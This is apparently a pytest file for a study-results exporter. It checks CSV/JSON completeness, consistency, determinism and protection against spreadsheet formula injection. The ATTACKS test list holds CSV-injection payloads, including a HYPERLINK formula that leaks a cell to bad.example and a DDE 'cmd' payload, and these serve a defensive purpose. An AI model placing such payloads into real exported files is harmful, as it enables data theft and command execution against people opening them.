"""The files of all numbers: complete, the same on every run, and harmless in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
import re
from dataclasses import replace
from importlib.util import find_spec

import pytest
from example_checks import failing
from example_study import effect, outcome, site, study, synthetic_study, together
from hypothesis import given
from hypothesis import strategies as st

from evaluation.errors import DataError
from evaluation.report import write
from evaluation.report.document import key_finding
from evaluation.report.write import write_site
from evaluation.study.evidence import Alternative, dumps, loads

STUDIES = [
    loads(dumps(study(outcomes=(*study().outcomes, failing())))),
    loads(dumps(synthetic_study())),
]


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_every_estimate_of_every_outcome_has_a_row():
    rows = write.rows(STUDIES)
    wanted = {
        (one.slug, outcome.column, entry.label)
        for one in STUDIES
        for outcome in one.outcomes
        for entry in (outcome.headline, *outcome.alternatives)
    }
    assert {(row["study"], row["outcome"], row["estimate_label"]) for row in rows} == wanted
    assert len(rows) == len(wanted) == 17
    kinds = {(row["study"], row["outcome"]) for row in rows if row["kind"] == "headline"}
    assert len(kinds) == 5


def test_numbers_are_those_of_the_results():
    """Against results.json read as JSON, not as our types."""
    content = json.loads(dumps(STUDIES[0]))
    rows = [row for row in write.rows(STUDIES) if row["study"] == content["slug"]]
    entries = [
        (found, entry)
        for found in content["outcomes"]
        for entry in (found["headline"], *found["alternatives"])
    ]
    for row, (found, entry) in zip(rows, entries, strict=True):
        effect = entry["effect"]
        assert (row["outcome"], row["certainty"]) == (found["column"], found["grade"]["level"])
        if effect is None:
            assert row["percent"] is row["estimate"] is row["n"] is None
            assert row["not_estimated"] == entry.get("reason")
            continue
        for name in ("percent", "averted"):
            told = (row[name], row[f"{name}_low"], row[f"{name}_high"])
            assert told == tuple(effect[name][end] for end in ("estimate", "low", "high"))
        for name in ("estimate", "std_error", "low", "high", "df", "p_value", "n", "objection"):
            assert row[name] == effect.get(name)


def test_a_row_says_which_way_of_its_own_percent_is_good():
    days = effect((17.0, 5.0, 31.0), (-9.0, -20.0, -1.0), percent_of="days", better="higher")
    entry = Alternative("Days", "time-free", True, "", "", replace(days, horizon=730.0))
    made = outcome(label="arrest within 24 months", alternatives=(entry,))
    first, second = write.rows([study(outcomes=(made,))])
    assert (first["better"], first["percent_of"], first["horizon"]) == ("lower", None, None)
    assert (second["better"], second["percent_of"], second["horizon"]) == ("higher", "days", 730.0)


def test_both_files_say_the_same():
    rows = json.loads(write.as_json(STUDIES))["rows"]
    table = read_csv(write.as_csv(STUDIES))
    assert [list(row) for row in table] == [list(write.columns())] * len(rows)
    for row, told in zip(rows, table, strict=True):
        for name, value in row.items():
            if value is None:
                assert told[name] == ""
            elif isinstance(value, bool):
                assert told[name] == str(value).lower()
            elif isinstance(value, (int, float)):
                assert float(told[name]) == value
            else:
                assert told[name] == value


def test_the_sentence_is_that_of_the_page():
    rows = [row for row in write.rows(STUDIES) if row["answer"]]
    pages = [
        key_finding(one, found).sentence
        for one in sorted(STUDIES, key=lambda one: one.slug)
        for found in one.outcomes
    ]
    assert [row["answer"] for row in rows] == pages
    assert all(row["answer"].startswith("In synthetic data: ") == row["synthetic"] for row in rows)


def test_order_of_the_studies_changes_nothing():
    assert write.as_csv(STUDIES) == write.as_csv(STUDIES[::-1])
    assert write.as_json(STUDIES) == write.as_json(STUDIES[::-1])


def test_no_day_of_making_and_no_path_is_in_the_files():
    for text in (write.as_csv(STUDIES), write.as_json(STUDIES)):
        # The plan was frozen on a day; a file of numbers has no use for it.
        assert not re.search(r"\d{4}-\d{2}-\d{2}", text)
        assert not re.search(r"(?:^|[\" ])/\w", text)
        assert text.endswith("\n") and "\r" not in text


# OWASP, "CSV Injection": = + - @ tab and carriage return, and a line feed; the wide forms too.
DANGEROUS = "=+-@\t\r\n＝＋－＠"
ATTACKS = [
    '=HYPERLINK("http://bad.example?x="&A1,"see")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\twords",
    "\rwords",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    '","=1+1',
    '"=1+1',
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_cell_that_a_spreadsheet_would_run_is_made_text(attack):
    bad = replace(outcome(), label=attack, measure=attack)
    evidence = study(title=attack, intervention=attack, outcomes=(bad,))
    text = write.as_csv([evidence])
    for row in csv.reader(io.StringIO(text)):
        assert len(row) == len(write.columns())
    first = read_csv(text)[0]
    for name in ("title", "intervention", "label", "measure"):
        assert attack in first[name]
        assert first[name][:1] not in tuple(DANGEROUS)
        assert first[name].lstrip()[:1] not in tuple(DANGEROUS)
    # The file for programs has the words as they are.
    assert json.loads(write.as_json([evidence]))["rows"][0]["title"] == attack


@given(st.text(max_size=40))
def test_no_text_begins_like_a_formula_and_none_is_lost(text):
    made = write.cell(text)
    assert isinstance(made, str)
    assert made[:1] not in tuple(DANGEROUS)
    assert made.lstrip()[:1] not in tuple(DANGEROUS)
    assert made in (text, f"'{text}")


def test_numbers_below_nought_stay_numbers():
    text = write.as_csv(STUDIES)
    rows = read_csv(text)
    below = [row for row in rows if row["percent"].startswith("-")]
    assert below
    assert all(float(row["percent"]) < 0 for row in below)
    # Bare, not in quotes: a number to a spreadsheet.
    assert ",-26.1438," in text
    assert "'-26" not in text


def test_a_table_reader_takes_numbers_as_numbers(tmp_path):
    import pandas as pd

    path = tmp_path / "results.csv"
    path.write_text(write.as_csv(STUDIES), encoding="utf-8")
    frame = pd.read_csv(path)
    for name in ("percent", "percent_low", "averted", "estimate", "p_value", "n"):
        assert frame[name].dtype.kind == "f"
    assert frame["primary"].dtype == bool
    assert list(frame.columns) == list(write.columns())


def test_means_and_shares_are_not_summed_over_periods():
    counted = STUDIES[0]
    columns = tuple(replace(one, type="number") for one in counted.data.columns)
    measured = replace(counted, data=replace(counted.data, columns=columns))
    assert any(row["averted"] is not None for row in write.rows([counted]))
    for row in write.rows([measured]):
        assert row["averted"] is row["averted_low"] is row["averted_high"] is None
    assert [row["percent"] for row in write.rows([measured])] == [
        row["percent"] for row in write.rows([counted])
    ]


def test_every_column_is_explained():
    content = json.loads(write.as_json(STUDIES))
    assert content["schema"] == 1
    assert list(content["columns"]) == list(content["rows"][0])
    assert all(content["columns"].values())


def test_without_studies_there_is_a_head_and_no_row():
    assert write.as_csv([]).count("\n") == 1
    assert json.loads(write.as_json([]))["rows"] == []


PAGES = {"index.html", "es.html", "studies.html", "studies.es.html", "tests.html"}
PAGES |= {"index.pdf", "es.pdf"} if find_spec("typst") else set()


def test_the_site_writes_them_beside_its_pages(tmp_path):
    written = write_site(STUDIES, tmp_path, together(STUDIES))
    wanted = PAGES | {"results.csv", "results.json"}
    path = tmp_path / "reports/index.html"
    assert written[-1] == path and {one.name for one in written} == wanted
    assert {one.name for one in path.parent.iterdir()} == wanted
    paper = "index.pdf" in PAGES
    for name, text in site(STUDIES, paper=paper).items():
        assert (path.parent / name).read_bytes() == text.encode()
    before = {one.name: one.read_bytes() for one in path.parent.iterdir()}
    write_site(STUDIES[::-1], tmp_path, together(STUDIES[::-1]))
    assert {one.name: one.read_bytes() for one in path.parent.iterdir()} == before


def test_a_file_that_cannot_be_written_leaves_the_old_ones(tmp_path):
    write_site(STUDIES, tmp_path, together(STUDIES))
    old = (tmp_path / "reports/results.csv").read_bytes()
    (tmp_path / "reports/results.json").unlink()
    (tmp_path / "reports/results.json").mkdir()
    with pytest.raises(DataError, match=r"results\.json"):
        write_site(STUDIES[:1], tmp_path, together(STUDIES[:1]))
    assert (tmp_path / "reports/results.csv").read_bytes() == old
    left = {one.name for one in (tmp_path / "reports").iterdir()}
    assert left == PAGES | {"results.csv", "results.json"}
